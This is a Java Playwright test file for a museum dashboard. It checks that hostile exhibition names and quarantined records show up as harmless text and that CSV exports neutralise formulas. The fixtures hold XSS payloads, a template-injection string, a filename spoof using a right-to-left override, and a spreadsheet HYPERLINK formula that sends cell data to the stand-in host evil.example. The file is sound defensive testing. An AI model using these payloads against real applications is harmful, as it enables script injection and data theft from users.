package museum.vitrine.app.screens;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Download;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page.GetByRoleOptions;
import com.microsoft.playwright.options.AriaRole;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.HexFormat;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import museum.vitrine.app.fixture.TestMuseum;
import museum.vitrine.app.screens.Screen.ShownPanel;
import museum.vitrine.app.screens.Screen.ShownPanels;
import museum.vitrine.app.web.ServedMuseum;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Names and records from outside are text, wherever they are shown.
class HostileIT {

    private static final String SCRIPT = "<script>alert('name')</script>";
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"prize\")";
    private static final String REVERSED = "Fossils \u202Egnp.exe";
    private static final String LONG = "x".repeat(10_000);
    private static final String IMAGE = "<img src=x onerror=alert('floor')>";
    private static final String STYLE = "{a|b} {{constructor.constructor('alert(1)')()}} %3Cscript%3E";

    private static final List<String> NAMES = List.of(SCRIPT, FORMULA, REVERSED, LONG, IMAGE, STYLE);

    private static final List<String> RECORDS =
            List.of(SCRIPT, FORMULA, REVERSED, LONG, "\u0000\u001b[2J\u0007", "{\"at\": \"" + IMAGE + "\"}");

    private static ServedMuseum served;

    @BeforeAll
    static void fill() {
        TestMuseum museum = TestMuseum.withSchema();
        museum.execute("UPDATE museum SET museum_name = " + text(SCRIPT + " museum \u202E"));
        for (int site = 0; site < NAMES.size(); site++) {
            String name = text(NAMES.get(site));
            museum.execute("""
                    INSERT INTO floor (museum_id, floor_name) SELECT museum_id, %2$s FROM museum;
                    INSERT INTO department (museum_id, department_name) SELECT museum_id, %2$s FROM museum;
                    INSERT INTO exhibition (museum_id, public_id, exhibition_name, floor_id, department_id)
                    SELECT museum_id, 'EXH_0%1$d', %2$s, (SELECT max(floor_id) FROM floor),
                        (SELECT max(department_id) FROM department) FROM museum""".formatted(site, name));
        }
        museum.execute("""
                INSERT INTO rating_interaction (exhibition_id, rating_id, event_at)
                SELECT exhibition_id, rating_id, now() - i * interval '1 hour'
                FROM exhibition, rating, generate_series(1, 30) AS i;
                INSERT INTO request_interaction (exhibition_id, request_id, event_at)
                SELECT exhibition_id, request_id, now() - i * interval '1 hour'
                FROM exhibition, request, generate_series(1, 30) AS i;
                INSERT INTO source_partition
                    (source, partition, museum_id, next_position, records_read, accepted, rejected, enforce_hours)
                SELECT 'kafka:cluster/' || %s, '0', museum_id, 9, 9, 3, 6, true FROM museum""".formatted(text(IMAGE)));
        for (int i = 0; i < RECORDS.size(); i++) {
            museum.execute("""
                    INSERT INTO quarantined_record (source_partition_id, source_position, received_at, reason, detail, payload)
                    SELECT source_partition_id, %d, now(), 'MALFORMED', %s, decode('%s', 'hex') FROM source_partition""".formatted(i, text(RECORDS.get(i).replace("\u0000", "")), hex(RECORDS.get(i))));
        }
        served = ServedMuseum.start(museum);
    }

    @AfterAll
    static void close() {
        served.close();
    }

    @Test
    void namesAreTextInEveryPanel() {
        for (String page : List.of("/exhibitions", "/safety")) {
            try (Person admin = Person.with(served, Device.TALL, "admin").open(page + "?period=last-7-days")) {
                admin.screen.settled();
                hover(admin);
                assertHarmless(admin);
                admin.screen.asTables();

                ShownPanels panels = admin.screen.panels();

                Stream<ShownPanel> byName = panels.byTitle().values().stream()
                        .filter(panel -> List.of("Exhibition", "Floor", "Department")
                                .contains(panel.columns().getFirst()));
                assertThat(byName.toList())
                        .hasSizeGreaterThanOrEqualTo(4)
                        .allSatisfy(panel -> assertThat(panel.rows().stream().map(List::getFirst))
                                .as(panel.title())
                                .containsExactlyInAnyOrderElementsOf(NAMES));
                assertHarmless(admin);
                assertThat(admin.page.locator("tbody bdi").first()).hasCSS("unicode-bidi", "isolate");
            }
        }
    }

    @Test
    void namesAreTextInFiltersAndChips() {
        try (Person admin = Person.with(served, Device.DESK, "admin").open("/exhibitions?period=last-7-days")) {
            admin.screen.settled();
            for (String filter : List.of("Exhibitions", "Floors", "Departments")) {
                Locator button = admin.page.getByRole(
                        AriaRole.BUTTON, new GetByRoleOptions().setName(Pattern.compile("^" + filter + ":")));
                button.click();
                assertThat(admin.page.locator(".options__list bdi").allTextContents())
                        .containsExactlyInAnyOrderElementsOf(NAMES);
                for (Locator option : admin.page.locator(".options__list input").all()) {
                    option.check();
                }
                admin.page.keyboard().press("Escape");
            }
            assertThat(admin.page.locator(".chip__label").allTextContents())
                    .hasSize(3 * NAMES.size())
                    .containsAll(NAMES);
            assertThat(admin.page.locator(".header__name")).hasText(SCRIPT + " museum \u202E");
            assertHarmless(admin);
            admin.page.setViewportSize(Device.PHONE.width(), Device.PHONE.height());
            assertHarmless(admin);
        }
    }

    @Test
    void recordsAreTextInTheQuarantine() {
        try (Person operator = Person.with(served, Device.DESK, "operator").open("/pipeline")) {
            operator.screen.settled();
            List<Locator> rows = operator.page.locator(".quarantine tbody tr").all();
            assertThat(rows).hasSize(RECORDS.size());
            for (int i = 0; i < rows.size(); i++) {
                String record = RECORDS.get(RECORDS.size() - 1 - i); // newest first
                assertThat(rows.get(i).locator("bdi").first()).hasText(record.replace("\u0000", ""));
                rows.get(i).getByRole(AriaRole.BUTTON).click();
                assertThat(operator.page.locator(".payload")).isVisible();
                assertThat(operator.page.locator(".payload").textContent()).isEqualTo(record);
                assertHarmless(operator);
                operator.page
                        .getByRole(AriaRole.BUTTON, new GetByRoleOptions().setName("Close"))
                        .click();
            }
            operator.page.setViewportSize(Device.PHONE.width(), Device.PHONE.height());
            assertHarmless(operator);
        }
    }

    @Test
    void tablesThatAreTakenAlongHoldNoFormula() throws IOException {
        try (Person admin = Person.with(served, Device.TALL, "admin").open("/exhibitions?period=last-7-days")) {
            admin.screen.settled();
            Download download = admin.page.waitForDownload(() -> admin.screen
                    .element("Responses by exhibition")
                    .getByRole(AriaRole.LINK)
                    .click());

            assertThat(Files.readString(download.path()))
                    .contains("'=HYPERLINK", SCRIPT, LONG)
                    .doesNotContain("\"=HYPERLINK", ",=HYPERLINK");
        }
    }

    /// What hangs in the air over every chart.
    private static void hover(Person person) {
        for (Locator chart : person.page.locator(".chart").all()) {
            var box = chart.boundingBox();
            for (double place : new double[] {0.3, 0.5, 0.7}) {
                person.page.mouse().move(box.x + box.width * place, box.y + box.height * place);
            }
        }
    }

    /// Nothing became an element, nothing ran (which the person's browser would tell), and nothing bursts the page.
    private static void assertHarmless(Person person) {
        assertThat(person.page.locator("img, iframe, object, main script, header script"))
                .hasCount(0);
        assertThat((int) person.page.evaluate("() => document.documentElement.scrollWidth - window.innerWidth"))
                .as("wider than the screen")
                .isLessThanOrEqualTo(0);
        assertThat((int) person.page.evaluate("() => document.documentElement.scrollHeight"))
                .as("pixels of height")
                .isLessThan(12_000);
    }

    private static String text(String value) {
        return "convert_from(decode('" + hex(value) + "', 'hex'), 'UTF8')";
    }

    private static String hex(String value) {
        return HexFormat.of().formatHex(value.getBytes(StandardCharsets.UTF_8));
    }
}
